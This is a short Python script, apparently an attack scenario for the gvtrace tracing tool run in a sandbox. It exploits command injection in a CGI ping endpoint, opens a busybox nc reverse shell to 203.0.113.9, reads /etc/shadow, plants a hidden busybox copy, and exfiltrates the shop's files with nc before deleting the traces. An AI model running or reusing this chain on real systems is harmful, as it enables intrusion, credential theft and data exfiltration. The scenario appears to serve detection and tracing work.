# SPDX-License-Identifier: Apache-2.0
# Copyright the gvtrace authors
"""The visitor of the story: reads pages as a customer, then uses the vulnerability. Runs outside the sandbox, in a
separate network namespace with the address 203.0.113.9."""
import socket
import threading
import time
import urllib.error
import urllib.request

SHOP = "http://198.51.100.10"
LISTENING_SHELL, DROP = ("203.0.113.9", 4444), ("203.0.113.9", 443)


def get(path):
    try:
        return urllib.request.urlopen(SHOP + path, timeout=5).read().decode()
    except (urllib.error.URLError, OSError) as e:
        return repr(e)


def take(loot):
    with socket.create_server(DROP) as server:
        connection, _ = server.accept()
        while block := connection.recv(4096):
            loot.append(block)


def main():
    get("/")
    get("/cgi-bin/ping?host=example.org")
    time.sleep(0.3)
    print(get("/cgi-bin/ping?host=x;id"))
    loot = []
    drop = threading.Thread(target=take, args=(loot,), daemon=True)
    drop.start()
    with socket.create_server(LISTENING_SHELL) as server:
        hole = "/cgi-bin/ping?host=x;busybox%20nc%20203.0.113.9%204444%20-e%20/bin/sh"
        threading.Thread(target=get, args=(hole,), daemon=True).start()
        shell, _ = server.accept()
    for line in (
        "id",
        "cat /etc/shadow",
        "cp /bin/busybox /bin/.update",
        "/bin/.update true",
        "tar -cf /dev/shm/.o -C / srv/shop",
        "busybox nc 203.0.113.9 443 < /dev/shm/.o",
        "rm /dev/shm/.o",
        "exit",
    ):
        shell.send((line + "\n").encode())
        time.sleep(0.4)
    drop.join(5)
    print("taken:", sum(map(len, loot)), "bytes")


main()
